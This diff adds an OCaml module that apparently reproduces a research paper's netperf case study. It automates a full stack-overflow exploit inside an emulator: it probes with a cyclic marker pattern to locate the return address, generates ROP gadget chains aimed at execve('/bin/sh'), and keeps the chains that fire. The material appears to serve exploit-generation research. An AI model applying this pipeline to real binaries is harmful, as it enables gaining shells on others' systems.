@@ -1,0 +1,81 @@
+(* The netperf case study (paper §VI-C, Fig. 8): exploit the break_args
+   stack overflow END TO END.
+
+   1. PROBE: feed a marker pattern through the vulnerable copy and watch
+      where the program crashes — this recovers both how many words of
+      filler reach the saved return address, and that cell's absolute
+      address (classic cyclic-pattern exploitation practice).
+   2. PLAN: point the payload layout at the probed address and run
+      Gadget-Planner over the binary.
+   3. FIRE: write [length; filler...; payload...] into the option-argument
+      area and run the program from _start.  Success = the emulator halts
+      in the goal syscall with the goal arguments. *)
+
+let marker_tag = 0x6d61726b00000000L   (* "mark" *)
+
+type probe = {
+  filler_words : int;     (* words copied before the return-address cell *)
+  ret_cell : int64;       (* absolute address of the smashed cell *)
+}
+
+let write_input m (words : int64 list) =
+  List.iteri
+    (fun i w ->
+      Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
+        (Int64.add Gp_corpus.Netperf.input_area (Int64.of_int (8 * i)))
+        w)
+    words
+
+let probe (image : Gp_util.Image.t) : probe option =
+  let m = Gp_emu.Machine.create image in
+  let n = 64 in
+  write_input m
+    (Int64.of_int n
+    :: List.init n (fun i -> Int64.logor marker_tag (Int64.of_int i)));
+  match Gp_emu.Machine.run ~fuel:10_000_000 m with
+  | Gp_emu.Machine.Fault _ ->
+    let rip = m.Gp_emu.Machine.rip in
+    if Int64.logand rip 0xffffffff00000000L = marker_tag then
+      Some
+        { filler_words = Int64.to_int (Int64.logand rip 0xffffffffL);
+          (* the faulting ret has already popped the cell *)
+          ret_cell = Int64.sub (Gp_emu.Machine.rsp m) 8L }
+    else None
+  | _ -> None
+
+type result = {
+  probe : probe;
+  chains : Gp_core.Payload.chain list;   (* end-to-end confirmed *)
+  attempted : int;
+}
+
+(* Deliver one chain through the vulnerability; true when the goal fires. *)
+let fire (image : Gp_util.Image.t) (pr : probe) (c : Gp_core.Payload.chain) : bool =
+  let m = Gp_emu.Machine.create image in
+  let payload = Array.to_list c.Gp_core.Payload.c_payload in
+  let words =
+    Int64.of_int (pr.filler_words + List.length payload)
+    :: List.init pr.filler_words (fun _ -> 0x4242424242424242L)
+    @ payload
+  in
+  write_input m words;
+  let outcome = Gp_emu.Machine.run ~fuel:20_000_000 m in
+  Gp_core.Goal.satisfied c.Gp_core.Payload.c_goal outcome
+
+let run ?(planner_config = Workspace.gp_planner_config)
+    ?(goal = Gp_core.Goal.Execve "/bin/sh") (b : Workspace.built) :
+    result option =
+  match probe b.Workspace.image with
+  | None -> None
+  | Some pr ->
+    let finally () = Gp_core.Layout.reset () in
+    Fun.protect ~finally (fun () ->
+        Gp_core.Layout.set_payload_base pr.ret_cell;
+        let o = Gp_core.Api.run_with_analysis ~planner_config b.Workspace.analysis goal in
+        let confirmed =
+          List.filter (fire b.Workspace.image pr) o.Gp_core.Api.chains
+        in
+        Some
+          { probe = pr;
+            chains = confirmed;
+            attempted = List.length o.Gp_core.Api.chains })
